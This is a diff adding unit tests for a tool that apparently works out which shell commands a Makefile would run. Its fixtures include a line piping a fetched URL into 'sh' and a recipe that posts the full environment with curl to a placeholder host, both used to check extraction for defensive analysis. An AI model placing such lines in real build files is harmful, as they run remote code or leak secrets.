@@ -77,6 +77,50 @@ describe('recipesOf', () => {
         'echo two',
       ],
     ));
+  it('leaves out what is only said, what nobody uses, and comments', () =>
+    assert.deepEqual(
+      run(
+        'make',
+        'Makefile',
+        '# $(shell one)\nLATEST = $(shell two)\nKIND := a # $(shell three)\nall:\n\techo $(KIND) || $(error see https://a.invalid)\n',
+      ),
+      ['echo a || '],
+    ));
+  it('runs what is asked alone on a line, in a condition and by what is evaluated', () =>
+    assert.deepEqual(
+      run(
+        'make',
+        'Makefile',
+        '$(shell one https://a.invalid | sh)\nifeq ($(shell two),x)\nendif\ndefine R\nall:\n\tthree\nendef\n$(eval $(R))\n',
+      ),
+      ['one https://a.invalid | sh', 'two', 'three'],
+    ));
+  it('leaves to the shell what is the shell’s', () =>
+    assert.deepEqual(run('make', 'Makefile', 'all:\n\tcurl -d "$$(env)" https://a.invalid/$(USER)\n'), [
+      'curl -d "$(env)" https://a.invalid/${USER}',
+    ]));
+  it('takes either way of what is not known, and the shell that is named', () => {
+    assert.deepEqual(run('make', 'Makefile', 'all:\n\t$(if $(NEVER),true,get a)\n'), ['true; get a']);
+    assert.deepEqual(run('make', 'Makefile', 'SHELL := ./stage\nall:\n\tone\n'), ['./stage -c "one"']);
+  });
+  it('finds the folder whose option is joined', () => assert.deepEqual(run('make --directory=native other', 'native/makefile'), ['three']));
+  it('is bounded, and says so', () => {
+    const [command] = readCommands('make');
+    assert.ok(command);
+    const tower = [
+      'Z =',
+      ...Array.from({ length: 7 }, (_, at) => `A${at} = ${`$(${at === 0 ? 'Z' : `A${at - 1}`})`.repeat(40)}`),
+      'all:',
+      '\t$(A6)',
+    ];
+    const each = ['L = a b c d e f g h i j k l m n o p q r s t', `all:\n\t${'$(foreach x,$(L),'.repeat(6)}y${')'.repeat(6)}`];
+    const needs = ['%: a% b% c% d% e% f%', '\ttrue', 'all: x'];
+    for (const text of [tower, each, needs, ['all: evil', ...Array.from({ length: 300 }, (_, at) => `\techo ${at}`)]]) {
+      let isCut = false;
+      recipesOf(command, new Map([['Makefile', new TextEncoder().encode(text.join('\n'))]]), () => (isCut = true));
+      assert.ok(isCut, text[0]);
+    }
+  });
   it('survives rules that need themselves, and variables that hold themselves', () =>
     assert.equal(run('make', 'Makefile', 'A = $(A)$(A)\na: b\n\t$(A)\nb: a\n\tx').length, 2));
 });
